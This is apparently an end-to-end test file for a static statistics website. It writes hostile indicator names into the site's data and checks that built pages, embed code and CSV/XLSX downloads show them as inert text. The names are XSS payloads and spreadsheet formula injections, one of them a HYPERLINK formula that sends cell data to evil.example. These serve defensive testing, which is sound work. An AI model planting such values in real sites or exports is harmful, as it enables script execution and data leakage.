// Hostile data: indicator names that try to break out of HTML <script> blocks and JavaScript
// strings must come out as plain visible text, never as code.
//
// The sample site is copied to a temp dir, the first indicator's name becomes
// `</script><script>alert(1)</script>` and the second's `"; alert(1); "`, and the site is built
// with `go run . build --source TMP --out TMP/public`. Pages are opened twice: once with the
// site's CSP (everything must be clean) and once WITHOUT any CSP, so that an escaping bug would
// really execute and open a dialog rather than being hidden by the policy.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { start } from './server.mjs';
import yauzl from 'yauzl';
import {
  REPO,
  readBasePath,
  mkTemp,
  goBuild,
  launch,
  watchedPage,
  goto,
  checkCharts,
  report,
} from './helpers.mjs';

export const HOSTILE = ['</script><script>alert(1)</script>', '"; alert(1); "'];
// Names a spreadsheet would evaluate if a CSV cell started with them (formula injection):
// given to the next indicators, then looked for in the downloads.
export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '@SUM(1,2)'];

// What the site is made of. Required ones must exist; optional ones are copied when present.
const REQUIRED = ['config.toml', 'data', 'content', 'templates'];
const OPTIONAL = ['static', 'assets', 'i18n'];

let tmp, outDir, base, browser, servers, indicatorPages;

/** A TOML basic string holding s. */
export function tomlString(s) {
  return (
    '"' +
    s.replace(/[\\"\u0000-\u001f\u007f]/g, (c) => {
      if (c === '\\') return '\\\\';
      if (c === '"') return '\\"';
      return '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0');
    }) +
    '"'
  );
}

/**
 * Replace the `name = …` of the first two indicator tables in indicators.toml. An indicator
 * table is an array-of-tables entry ([[…]]); each name must be the first `name` key of its entry.
 */
export function poisonIndicators(text, names) {
  const lines = text.split('\n');
  const keyRe = /^(\s*name\s*=\s*)("(?:[^"\\\n]|\\.)*"|'[^'\n]*')(\s*(?:#.*)?)$/;
  let inEntry = false;
  let doneThisEntry = false;
  const replaced = [];
  for (let i = 0; i < lines.length && replaced.length < names.length; i++) {
    const line = lines[i];
    if (/^\s*\[\[[^\]]+\]\]\s*(#.*)?$/.test(line)) {
      inEntry = true;
      doneThisEntry = false;
      continue;
    }
    if (/^\s*\[[^\[]/.test(line)) {
      // A plain [table] header: only its own nested keys follow; not an indicator entry.
      inEntry = /^\s*\[\s*indicators?\s*\.\s*[^\]]+\]/.test(line);
      doneThisEntry = false;
      continue;
    }
    if (!inEntry || doneThisEntry) continue;
    const m = line.match(keyRe);
    if (!m) continue;
    const old = m[2].startsWith('"') ? JSON.parse(m[2]) : m[2].slice(1, -1);
    lines[i] = m[1] + tomlString(names[replaced.length]) + m[3];
    replaced.push({ line: i + 1, old, new: names[replaced.length] });
    doneThisEntry = true;
  }
  if (replaced.length < names.length) {
    throw new Error(`indicators.toml: found only ${replaced.length} indicator name(s) to replace`);
  }
  return { text: lines.join('\n'), replaced };
}

function decodeEntities(s) {
  return s
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&apos;/g, "'")
    .replace(/&nbsp;/g, '\u00a0')
    .replace(/&amp;/g, '&');
}

/** Every file under dir whose name ends with ext. */
function filesEnding(dir, ext) {
  const out = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesEnding(p, ext));
    else if (e.name.endsWith(ext)) out.push(p);
  }
  return out;
}

const htmlFiles = (dir) => filesEnding(dir, '.html');

/** URL path (relative to the base) of the indicator page whose <h1> shows `name`. */
function findIndicatorPage(name) {
  const root = path.join(outDir, 'chi-tieu');
  assert.ok(fs.existsSync(root), `no chi-tieu/ in the build output ${outDir}`);
  for (const f of htmlFiles(root)) {
    const html = fs.readFileSync(f, 'utf8');
    const h1 = html.match(/<h1[^>]*>([\s\S]*?)<\/h1>/i);
    if (h1 && decodeEntities(h1[1].replace(/<[^>]*>/g, '')).includes(name)) {
      const rel = path.relative(outDir, f).split(path.sep).join('/');
      return rel.replace(/index\.html$/, '');
    }
  }
  return null;
}

before(async () => {
  tmp = mkTemp('chiso-e2e-hostile-');
  for (const name of [...REQUIRED, ...OPTIONAL]) {
    const from = path.join(REPO, name);
    if (!fs.existsSync(from)) {
      assert.ok(!REQUIRED.includes(name), `the sample site has no ${name}`);
      continue;
    }
    fs.cpSync(from, path.join(tmp, name), { recursive: true });
  }
  // In case the build takes ECharts from the source's node_modules.
  if (fs.existsSync(path.join(REPO, 'node_modules'))) {
    fs.symlinkSync(path.join(REPO, 'node_modules'), path.join(tmp, 'node_modules'), 'dir');
  }
  const indFile = path.join(tmp, 'data', 'indicators.toml');
  const poisoned = poisonIndicators(fs.readFileSync(indFile, 'utf8'), [...HOSTILE, ...FORMULAS]);
  fs.writeFileSync(indFile, poisoned.text);
  for (const r of poisoned.replaced) {
    console.log(`# indicators.toml:${r.line}: ${JSON.stringify(r.old)} -> ${JSON.stringify(r.new)}`);
  }

  base = readBasePath(path.join(tmp, 'config.toml'));
  outDir = path.join(tmp, 'public');
  const b = goBuild(['--source', tmp, '--out', outDir]);
  console.log(`# built hostile site into ${outDir} in ${b.ms} ms`);

  indicatorPages = HOSTILE.map((n) => {
    const rel = findIndicatorPage(n);
    assert.ok(rel, `no page under chi-tieu/ has an <h1> showing ${JSON.stringify(n)}`);
    return rel;
  });

  servers = {
    csp: await start({ root: outDir, base, csp: true }),
    none: await start({ root: outDir, base, csp: false }),
  };
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await servers?.csp?.close();
  await servers?.none?.close();
  if (tmp && !process.env.KEEP_E2E) fs.rmSync(tmp, { recursive: true, force: true });
});

function pages(server) {
  return [
    ['home', server.url, []],
    ['article 2024-04', new URL('bai-viet/2024-04/', server.url).href, HOSTILE],
    [`indicator ${indicatorPages[0]}`, new URL(indicatorPages[0], server.url).href, [HOSTILE[0]]],
    [`indicator ${indicatorPages[1]}`, new URL(indicatorPages[1], server.url).href, [HOSTILE[1]]],
  ];
}

test('no built page contains the payload as markup', () => {
  const bad = [];
  for (const f of htmlFiles(outDir)) {
    const html = fs.readFileSync(f, 'utf8');
    if (html.includes('<script>alert(1)')) bad.push(path.relative(outDir, f));
  }
  assert.deepEqual(bad, [], `raw <script>alert(1) in: ${bad.join(', ')}`);
});

test('with CSP: hostile names show as text, no errors, charts draw', async () => {
  for (const [name, url, expectText] of pages(servers.csp)) {
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
    try {
      const { page, problems } = await watchedPage(ctx);
      await goto(page, url);
      for (const t of expectText) {
        const loc = page.getByText(t, { exact: false }).first();
        assert.ok(await loc.isVisible(), `${name}: ${JSON.stringify(t)} is not visible as text`);
      }
      const charts = await checkCharts(page);
      const all = [...(await problems()), ...charts.problems];
      assert.deepEqual(all, [], report(`${name} (${url})`, all));
    } finally {
      await ctx.close();
    }
  }
});

test('without CSP: no dialog opens and no script breaks', async () => {
  for (const [name, url] of pages(servers.none)) {
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
    try {
      const { page, problems, dialogs } = await watchedPage(ctx);
      await goto(page, url);
      const charts = await checkCharts(page);
      assert.deepEqual(dialogs, [], `${name}: a dialog opened: ${dialogs.join('; ')}`);
      const all = [...(await problems()), ...charts.problems];
      assert.deepEqual(all, [], report(`${name} without CSP (${url})`, all));
    } finally {
      await ctx.close();
    }
  }
});

test('embed code pasted into a page of another origin: the host page gains no script, the embed draws, no dialog opens', async () => {
  // The embed code exactly as the site offers it beside the hostile indicator's chart (read
  // from its <textarea> by the browser, so entities are decoded as a webmaster's copy would
  // be), pointed at the server without CSP, pasted into a page served from another port:
  // another origin, as on a portal's CMS.
  const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
  let host;
  try {
    const probe = await ctx.newPage();
    await goto(probe, new URL(indicatorPages[0], servers.none.url).href);
    const codes = await probe.$$eval('textarea.embed-code', (ts) => ts.map((t) => t.value));
    assert.ok(codes.length > 0, `${indicatorPages[0]}: no embed code`);
    const siteRoot = /src="(https?:\/\/[^"]*?\/)nhung\//.exec(codes[0]);
    assert.ok(siteRoot, `embed code without an iframe of nhung/: ${codes[0]}`);
    const pasted = codes.map((c) => c.split(siteRoot[1]).join(servers.none.url)).join('\n');
    await probe.close();

    const http = await import('node:http');
    host = http.createServer((req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng khác</title></head><body><h1>Trang của cổng</h1>${pasted}</body></html>`);
    });
    await new Promise((r) => host.listen(0, '127.0.0.1', r));
    const hostURL = `http://127.0.0.1:${host.address().port}/`;
    assert.notEqual(new URL(hostURL).origin, new URL(servers.none.url).origin);

    const { page, dialogs } = await watchedPage(ctx);
    await goto(page, hostURL);
    assert.equal(await page.locator('script').count(), 0, 'the pasted code added a script to the host page');
    assert.equal(await page.locator('iframe').count(), codes.length, 'one iframe per embed code');
    const frame = page.frames().find((f) => f !== page.mainFrame() && f.url().startsWith(servers.none.url));
    assert.ok(frame, 'the embed did not load from the site');
    await frame.waitForSelector('.chart-canvas[data-finished="1"], .chart-canvas[data-drawn="error"], table');
    assert.ok((await frame.locator('figure.chart').count()) > 0, 'the embed shows no chart');
    assert.deepEqual(dialogs, [], `a dialog opened: ${dialogs.join('; ')}`);
  } finally {
    await ctx.close();
    await new Promise((r) => (host ? host.close(r) : r()));
  }
});

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF) into rows of cells. */
function parseCSV(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

test('CSV downloads: no text cell starts a formula; the names are there, made inert', () => {
  const bad = [];
  let inert = 0;
  for (const f of filesEnding(outDir, '.csv')) {
    const rows = parseCSV(fs.readFileSync(f, 'utf8').replace(/^\ufeff/, ''));
    for (const row of rows) {
      for (const cell of row) {
        if (/^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell))) bad.push(`${path.relative(outDir, f)}: ${cell}`);
        if (FORMULAS.some((n) => cell === "'" + n)) inert++;
      }
    }
  }
  assert.deepEqual(bad.slice(0, 10), [], `${bad.length} cells would run as formulas`);
  assert.ok(inert > 0, 'no formula-like name found in the CSV files: the test checks nothing');
});

/** The XML of every worksheet of an XLSX file. */
function sheets(file) {
  return new Promise((resolve, reject) => {
    const out = [];
    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
      if (err) return reject(err);
      zip.readEntry();
      zip.on('entry', (entry) => {
        if (!/^xl\/worksheets\/.*\.xml$/.test(entry.fileName) && entry.fileName !== 'xl/sharedStrings.xml') return zip.readEntry();
        zip.openReadStream(entry, (err, stream) => {
          if (err) return reject(err);
          const chunks = [];
          stream.on('data', (c) => chunks.push(c));
          stream.on('end', () => {
            out.push({ name: entry.fileName, xml: Buffer.concat(chunks).toString('utf8') });
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(out));
    });
  });
}

test('XLSX download: the names are text cells, no cell holds a formula', async () => {
  const parts = await sheets(path.join(outDir, 'du-lieu', 'chi-so.xlsx'));
  assert.ok(parts.some((p) => p.name.startsWith('xl/worksheets/')), 'no worksheet in chi-so.xlsx');
  for (const p of parts) assert.ok(!/<f[ >]/.test(p.xml), `${p.name} holds a formula`);
  const text = decodeEntities(parts.map((p) => p.xml).join(''));
  for (const n of FORMULAS) assert.ok(text.includes(n), `${n} is not in the workbook as text`);
});
